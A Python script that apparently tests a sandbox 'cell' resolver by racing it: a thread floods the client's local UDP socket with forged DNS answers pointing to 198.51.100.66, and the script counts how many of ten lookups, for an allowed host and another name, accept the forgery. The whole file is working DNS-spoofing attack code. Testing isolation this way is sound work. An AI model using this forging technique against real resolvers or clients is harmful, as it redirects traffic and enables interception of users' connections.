"""Answer a look-up before the name server does: flood the asking socket with forged answers. Succeeds if a client that asked
the cell's resolver believes one, for the allowed host or for one that is not.
"""

import socket
import threading

import dns_udp
import say

RESOLVER = ("127.0.0.1", 53)
FORGED = "198.51.100.66"


def answer(asked):
    tail = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(FORGED)
    return asked[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + asked[12:] + tail


def ask(name, seconds):
    """One look-up, as the C library does it: a connected socket, the first answer counts."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(seconds)
        sock.connect(RESOLVER)
        asked = dns_udp.question(name)
        stop = threading.Event()
        forger = threading.Thread(target=forge, args=(sock.getsockname(), answer(asked), stop))
        forger.start()
        try:
            sock.send(asked)
            return sock.recv(512)
        finally:
            stop.set()
            forger.join()


def forge(to, data, stop):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.bind(("127.0.0.1", 53))
        except OSError:
            pass
        while not stop.is_set():
            try:
                sock.sendto(data, to)
            except OSError:
                pass


def attack(given):
    believed = 0
    for name in [given["allowed_host"], "elsewhere.example"] * 5:
        try:
            believed += socket.inet_aton(FORGED) in ask(name, 2)
        except OSError:
            pass
    return believed > 0, f"{believed} of 10 believed"


say.main("forged_answer", attack, dns_udp.twin)
